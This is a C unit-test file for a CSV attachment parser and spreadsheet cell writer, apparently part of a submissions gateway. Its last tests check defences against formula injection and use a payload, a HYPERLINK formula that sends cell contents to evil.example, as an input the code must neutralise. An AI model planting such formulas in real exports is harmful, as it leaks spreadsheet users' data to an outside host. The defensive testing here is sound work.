/* Tests of parsers/csv.c: CSV attachments (docs/submissions.md section 4),
 * and the cells the gateway writes for spreadsheets (ctcgw(8), CSV AND
 * SPREADSHEETS). */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <string.h>

#include "parsers/csv.h"
#include "parsers/form.h"

/* A lookup that knows KZ, KG, UNODC and OSCE. */
static char *
fake_entity (gpointer data, const char *text, char **suggestion)
{
  const char *codes[] = { "KZ", "KG", "UNODC", "OSCE", NULL };
  for (guint i = 0; codes[i]; i++)
    if (g_ascii_strcasecmp (codes[i], text) == 0)
      return g_strdup (codes[i]);
  const char *close = form_suggest (text, codes);
  if (close)
    *suggestion = g_strdup (close);
  return NULL;
}

static const FormLookup lookup = { NULL, fake_entity, NULL, NULL };

/* Parses and checks data as the attachment filename. */
static FormParse *
csv_check (const char *data, const char *filename)
{
  FormParse *parse = form_parse_new ();
  form_parse_csv (parse, data, strlen (data), filename, NULL);
  form_check (parse, &lookup, NULL);
  return parse;
}

/* Prints every problem of parse (shown when a test fails). */
static void
print_problems (const FormParse *parse)
{
  for (guint i = 0; i < parse->problems->len; i++)
    {
      g_autofree char *s = form_problem_format (parse->problems->pdata[i]);
      print_message ("  message problem: %s\n", s);
    }
  for (guint r = 0; r < parse->records->len; r++)
    {
      const FormRecord *rec = parse->records->pdata[r];
      for (guint i = 0; i < rec->problems->len; i++)
        {
          g_autofree char *s = form_problem_format (rec->problems->pdata[i]);
          print_message ("  problem: %s\n", s);
        }
    }
}

/* Whether a problem of array formats as expected. */
static gboolean
in_problems (const GPtrArray *problems, const char *expected)
{
  for (guint i = 0; i < problems->len; i++)
    {
      g_autofree char *s = form_problem_format (problems->pdata[i]);
      if (strcmp (s, expected) == 0)
        return TRUE;
    }
  return FALSE;
}

/* Fails unless parse (or one of its records) has the problem expected. */
static void
assert_problem (const FormParse *parse, const char *expected)
{
  gboolean found = in_problems (parse->problems, expected);
  for (guint r = 0; !found && r < parse->records->len; r++)
    found = in_problems (((FormRecord *) parse->records->pdata[r])->problems, expected);
  if (!found)
    {
      print_message ("expected problem: %s\n", expected);
      print_problems (parse);
      fail ();
    }
}

/* Fails unless parse has no problem at all. */
static void
assert_clean (const FormParse *parse)
{
  guint n = parse->problems->len;
  for (guint r = 0; r < parse->records->len; r++)
    n += ((FormRecord *) parse->records->pdata[r])->problems->len;
  print_problems (parse);
  assert_int_equal (n, 0);
}

/* Record i of parse. */
static FormRecord *
record (const FormParse *parse, guint i)
{
  assert_true (i < parse->records->len);
  return parse->records->pdata[i];
}

/* A column of a checked record. */
static const char *
col (const FormRecord *rec, const char *column)
{
  return g_hash_table_lookup (rec->columns, column);
}

/* A Form column gives each row its kind. */
static void
test_form_column (void **state)
{
  g_autoptr(FormParse) parse = csv_check (
    "Form,Entity,Kind,Title,Name,Email\r\n"
    "inventory,KZ,mechanism,Commission,,\r\n"
    "contact-point,KG,,,Aigerim,a@b.example\r\n", "data.csv");
  assert_clean (parse);
  assert_int_equal (parse->records->len, 2);
  FormRecord *inv = record (parse, 0), *cp = record (parse, 1);
  assert_ptr_equal (inv->kind, &form_inventory);
  assert_true (inv->csv);
  assert_string_equal (inv->source, "data.csv");
  assert_int_equal (inv->line, 2);
  assert_string_equal (col (inv, "title"), "Commission");
  assert_ptr_equal (cp->kind, &form_contact_point);
  assert_int_equal (cp->line, 3);
  assert_string_equal (col (cp, "email"), "a@b.example");
  assert_string_equal (cp->owner, "KG");
}

/* Without a Form column the file name gives the kind. */
static void
test_kind_from_filename (void **state)
{
  const struct { const char *name; const struct form_kind *kind; } cases[] = {
    { "inventory.csv", &form_inventory },
    { "Inventory.CSV", &form_inventory },
    { "inventory_2026.csv", &form_inventory },
    { "assistance-offer.csv", &form_assistance_offer },
    { "Assistance Offer 2026.csv", &form_assistance_offer },
    { "offers-2026.csv", &form_assistance_offer },
    { "contact-point.csv", &form_contact_point },
    { "contacts.csv", &form_contact_point },
    { "dir/sub\\standard.csv", &form_standard },
  };
  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(FormParse) parse = form_parse_new ();
      form_parse_csv (parse, "Title\nx\n", 8, cases[i].name, NULL);
      print_message ("%s\n", cases[i].name);
      assert_int_equal (parse->records->len, 1);
      assert_ptr_equal (record (parse, 0)->kind, cases[i].kind);
    }
  const char *unknown[] = { "data.csv", "offer.csv", "inventoryx.csv", NULL, };
  for (guint i = 0; unknown[i]; i++)
    {
      g_autoptr(FormParse) parse = form_parse_new ();
      form_parse_csv (parse, "Title\nx\n", 8, unknown[i], NULL);
      assert_int_equal (parse->records->len, 0);
      g_autofree char *expected = g_strdup_printf (
        "%s: no Form column, and the file name names no form", unknown[i]);
      assert_problem (parse, expected);
    }
}

/* A UTF-8 byte order mark is not part of the first key. */
static void
test_bom (void **state)
{
  g_autoptr(FormParse) parse = csv_check (
    "\xef\xbb\xbf" "Entity,Kind,Title\nKZ,activity,Training\n", "inventory.csv");
  assert_clean (parse);
  assert_string_equal (col (record (parse, 0), "entity"), "KZ");
  g_autoptr(FormParse) with_form = csv_check (
    "\xef\xbb\xbf" "Form,Entity,Kind,Title\ninventory,KZ,activity,Training\n", "x.csv");
  assert_clean (with_form);
  assert_ptr_equal (record (with_form, 0)->kind, &form_inventory);
}

/* Problems name the file and the row; the header is row 1. */
static void
test_row_numbers (void **state)
{
  g_autoptr(FormParse) parse = csv_check (
    "Entity,Kind,Title,Year\n"
    "KZ,activity,T,2026\n"
    "\n"
    "KZ,activty,T,2026\n"
    "\"KG\",mechanism,\"two\nlines\",1800\n"
    "KZ,activity,,\n", "inventory.csv");
  assert_int_equal (parse->records->len, 4);
  assert_int_equal (record (parse, 0)->problems->len, 0);
  assert_problem (parse, "inventory.csv row 3: field \"Kind\": \"activty\" is not one of "
                  "activity, mechanism, institution; did you mean \"activity\"?");
  assert_problem (parse, "inventory.csv row 4: field \"Year\": \"1800\" is not a year "
                  "like 2026");
  assert_string_equal (col (record (parse, 2), "title"), "two\nlines");
  assert_problem (parse, "inventory.csv row 5: field \"Title\" is required");
}

/* Rows with more cells than the header are problems; fewer are empty
 * trailing cells. */
static void
test_ragged (void **state)
{
  g_autoptr(FormParse) parse = csv_check (
    "Entity,Kind,Title\n"
    "KZ,activity,T,extra,more\n"
    "KZ,activity\n", "inventory.csv");
  assert_int_equal (parse->records->len, 2);
  assert_problem (parse, "inventory.csv row 2: 5 cells where the header has 3");
  assert_problem (parse, "inventory.csv row 3: field \"Title\" is required");
  assert_int_equal (record (parse, 1)->problems->len, 1);
  g_autofree char *wide = g_strnfill (10000, ',');
  g_autofree char *text = g_strdup_printf ("Title\nT%s\n", wide);
  g_autoptr(FormParse) many = csv_check (text, "standard.csv");
  assert_problem (many, "standard.csv row 2: 10001 cells where the header has 1");
}

/* Quoting per RFC 4180: commas, quotes and newlines inside cells. */
static void
test_quoting (void **state)
{
  g_autoptr(FormParse) parse = csv_check (
    "Title,Issuer,Areas,Summary\n"
    "\"Model law, annotated\",UNODC,\"other, border-control\",\"He said \"\"no\"\".\"\n",
    "standard.csv");
  assert_clean (parse);
  FormRecord *rec = record (parse, 0);
  assert_string_equal (col (rec, "title"), "Model law, annotated");
  assert_string_equal (col (rec, "areas"), "[\"other\",\"border-control\"]");
  assert_string_equal (col (rec, "summary"), "He said \"no\".");
}

/* Spreadsheets that write semicolons are read too. */
static void
test_semicolons (void **state)
{
  g_autoptr(FormParse) parse = csv_check (
    "Title;Issuer;Areas\n\"T; one\";UNODC;other\n", "standard.csv");
  assert_clean (parse);
  assert_string_equal (col (record (parse, 0), "title"), "T; one");
}

/* Broken CSV is a problem of the file, never a crash. */
static void
test_invalid (void **state)
{
  g_autoptr(FormParse) parse = csv_check ("Title,Issuer,Areas\nT,UNODC,other\n\"open,x\n",
                                          "standard.csv");
  assert_int_equal (parse->records->len, 1);
  assert_problem (parse, "standard.csv row 3: not valid CSV (error parsing data while "
                  "strict checking enabled); the rest of the file was not read");
  g_autoptr(FormParse) quote = csv_check ("Title\nab\"c\n", "standard.csv");
  assert_int_equal (quote->problems->len, 1);
  g_autoptr(FormParse) empty = csv_check ("", "standard.csv");
  assert_int_equal (empty->records->len, 0);
  assert_int_equal (empty->problems->len, 0);
  g_autoptr(FormParse) blank = csv_check ("\n\n", "standard.csv");
  assert_int_equal (blank->records->len, 0);
  g_autoptr(FormParse) nul = form_parse_new ();
  form_parse_csv (nul, "Title,Issuer,Areas\nA\0B,\xff,other\n", 30, "standard.csv", NULL);
  form_check (nul, &lookup, NULL);
  assert_int_equal (nul->records->len, 1);
  assert_true (g_utf8_validate (col (record (nul, 0), "title"), -1, NULL));
  g_autoptr(FormParse) none = form_parse_new ();
  form_parse_csv (none, NULL, 10, NULL, NULL);
  assert_int_equal (none->records->len, 0);
}

/* Header keys go through the key aliases; unknown ones get a suggestion. */
static void
test_header_keys (void **state)
{
  g_autoptr(FormParse) parse = csv_check (
    "Formulaire,ENTITÉ,Nom,Correo electrónico,Emial\n"
    "contact-point,KZ,Aigerim,a@b.example,x\n", "x.csv");
  assert_int_equal (parse->records->len, 1);
  FormRecord *rec = record (parse, 0);
  assert_string_equal (col (rec, "email"), "a@b.example");
  assert_problem (parse, "x.csv row 2: unknown field \"Emial\"; did you mean \"Email\"?");
  assert_int_equal (rec->problems->len, 1);
  g_autoptr(FormParse) unnamed = csv_check ("Title,,Issuer,Areas\nT,x,UNODC,other\n",
                                            "standard.csv");
  assert_problem (unnamed, "standard.csv row 2: column 2 has no name in the header");
}

/* Records a message, fields a record and characters a value are bounded. */
static void
test_limits (void **state)
{
  CtcLimits limits = ctc_limits_default ();
  limits.records_max = 2;
  limits.fields_max = 2;
  limits.value_max = 5;
  g_autoptr(FormParse) parse = form_parse_new ();
  const char *data = "Title,Issuer,Areas\nT,UNODC,other\nTitle6,UNODC\nT\nT\n";
  form_parse_csv (parse, data, strlen (data), "standard.csv", &limits);
  assert_int_equal (parse->records->len, 2);
  assert_problem (parse, "more than 2 records in one message; the rest were not read");
  assert_problem (parse, "standard.csv row 2: more than 2 fields in one record");
  assert_problem (parse, "standard.csv row 3: field \"Title\" is longer than 5 characters");
}

/* A file with bytes but no row, and a header wider than any record may be. */
static void
test_no_header_and_wide_header (void **state)
{
  CtcLimits limits = ctc_limits_default ();
  g_autoptr(FormParse) empty = form_parse_new ();
  form_parse_csv (empty, "\n\n", 2, "standard.csv", &limits);
  assert_int_equal (empty->records->len, 0);
  assert_problem (empty, "standard.csv: no header row");

  limits.fields_max = 2;
  g_autoptr(FormParse) wide = form_parse_new ();
  const char *data = "Title,Issuer,Areas,Url,Citation,Year,Summary,Reference,Extra\n"
                     "T,UNODC,other\n";
  form_parse_csv (wide, data, strlen (data), "standard.csv", &limits);
  assert_problem (wide, "standard.csv row 1: more than 8 columns");
}

/* A staff import of entities: every row is of the kind asked for, whatever
 * the file's name; codes are kept in capitals and checked. */
static void
test_staff_kind (void **state)
{
  g_autoptr(FormParse) parse = form_parse_new ();
  const char *data = "Code,Name,Kind,Active,Require\ngctf,Forum,,,Authenticated\nx y,Bad,,,\n"
                     "ABC,Three,state,,\nNEW,New,organisation,maybe,\nOLD,Old,,,confirmed\n";
  form_parse_csv_as (parse, data, strlen (data), "new-orgs.csv", &form_entity, NULL);
  form_check (parse, &lookup, NULL);
  assert_int_equal (parse->records->len, 5);
  FormRecord *rec = parse->records->pdata[0];
  assert_ptr_equal (rec->kind, &form_entity);
  assert_int_equal (rec->problems->len, 0);
  assert_string_equal (col (rec, "code"), "GCTF");
  assert_string_equal (col (rec, "kind"), "organization");
  assert_string_equal (col (rec, "active"), "yes");
  assert_string_equal (col (rec, "require"), "authenticated");
  assert_null (col (parse->records->pdata[2], "require"));
  assert_problem (parse, "new-orgs.csv row 3: field \"Code\": \"x y\" is not a code: 2 to 20"
                  " letters, digits and '-', like UNODC or CIS-ATC");
  assert_problem (parse, "new-orgs.csv row 4: field \"Code\": \"ABC\" is not a State's code:"
                  " two letters (ISO 3166-1 alpha-2)");
  assert_problem (parse, "new-orgs.csv row 5: field \"Kind\": \"organisation\" is not one of"
                  " organization, state; did you mean \"organization\"?");
  assert_problem (parse, "new-orgs.csv row 6: field \"Require\": \"confirmed\" is not one of"
                  " authenticated, confirm, none, default; did you mean \"confirm\"?");
  /* Neither kind is a form of email. */
  assert_null (form_kind_find ("entity"));
  assert_null (form_kind_find ("group"));
}

/* ---- cells written for spreadsheets ------------------------------------ */

/* The values a spreadsheet would take for a formula, and those it would not. */
static void
test_cell_guarded (void **state)
{
  const char *guarded[] = {
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+7 727 123 4567", "-2+3",
    "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=", "'=1+1", "''-1", "'\t",
  };
  const char *plain[] = {
    "", "Counsellor", " =1+1", "7 727 123 4567", "'", "'quoted'", "''x", "a=b", "x@y.example",
  };
  for (guint i = 0; i < G_N_ELEMENTS (guarded); i++)
    assert_true (csv_cell_guarded (guarded[i]));
  for (guint i = 0; i < G_N_ELEMENTS (plain); i++)
    assert_false (csv_cell_guarded (plain[i]));
  assert_false (csv_cell_guarded (NULL));
}

/* value written as one cell. */
static char *
cell_of (const char *value)
{
  GString *out = g_string_new (NULL);
  csv_append_cell (out, value);
  return g_string_free (out, FALSE);
}

/* A formula is written after an apostrophe, inside the quotes if any;
 * everything else as before. */
static void
test_append_cell (void **state)
{
  const char *cases[][2] = {
    { "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
      "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\"" },
    { "+7 727 123 4567", "'+7 727 123 4567" },
    { "-2+3", "'-2+3" },
    { "@SUM(A1:A9)", "'@SUM(A1:A9)" },
    { "\t=1+1", "'\t=1+1" },
    { "\r=1+1", "\"'\r=1+1\"" },
    { "'=1+1", "''=1+1" },
    { "'quoted'", "'quoted'" },
    { "Counsellor", "Counsellor" },
    { "a, b", "\"a, b\"" },
    { " padded ", "\" padded \"" },
    { "", "" },
    { NULL, "" },
  };
  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *cell = cell_of (cases[i][0]);
      assert_string_equal (cell, cases[i][1]);
    }
}

/* Every value written by csv_append_cell() reads back as it was, through
 * the reader of attachments and imports: formulas without the apostrophe
 * written before them, and a value that begins with an apostrophe with it. */
static void
test_cell_round_trip (void **state)
{
  const char *values[] = {
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+7 727 123 4567", "-2+3",
    "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\tx", "'=1+1", "''=1+1", "'+7", "'quoted'", "''x",
    "'", "x'", "Counsellor", "a, \"b\"\nc",
  };
  for (guint i = 0; i < G_N_ELEMENTS (values); i++)
    {
      g_autoptr (GString) data = g_string_new ("Title,Issuer,Areas\r\n");
      csv_append_cell (data, values[i]);
      g_string_append (data, ",UNODC,other\r\n");
      g_autoptr (FormParse) parse = csv_check (data->str, "standard.csv");
      FormRecord *rec = record (parse, 0);
      FormValue *title = rec->values->pdata[0];
      assert_string_equal (title->key, "Title");
      assert_string_equal (title->value, values[i]);
    }
}

/* A cell that the writer could not have made keeps its apostrophe. */
static void
test_cell_value (void **state)
{
  assert_string_equal (csv_cell_value ("'=1+1"), "=1+1");
  assert_string_equal (csv_cell_value ("''=1+1"), "'=1+1");
  assert_string_equal (csv_cell_value ("'\t"), "\t");
  assert_string_equal (csv_cell_value ("'quoted'"), "'quoted'");
  assert_string_equal (csv_cell_value ("''x"), "''x");
  assert_string_equal (csv_cell_value ("'"), "'");
  assert_string_equal (csv_cell_value ("=1+1"), "=1+1");
  assert_string_equal (csv_cell_value (""), "");
}

int
main (void)
{
  const struct CMUnitTest tests[] = {
    cmocka_unit_test (test_form_column),
    cmocka_unit_test (test_kind_from_filename),
    cmocka_unit_test (test_bom),
    cmocka_unit_test (test_row_numbers),
    cmocka_unit_test (test_ragged),
    cmocka_unit_test (test_quoting),
    cmocka_unit_test (test_semicolons),
    cmocka_unit_test (test_invalid),
    cmocka_unit_test (test_header_keys),
    cmocka_unit_test (test_limits),
    cmocka_unit_test (test_no_header_and_wide_header),
    cmocka_unit_test (test_staff_kind),
    cmocka_unit_test (test_cell_guarded),
    cmocka_unit_test (test_append_cell),
    cmocka_unit_test (test_cell_round_trip),
    cmocka_unit_test (test_cell_value),
  };
  return cmocka_run_group_tests (tests, NULL, NULL);
}
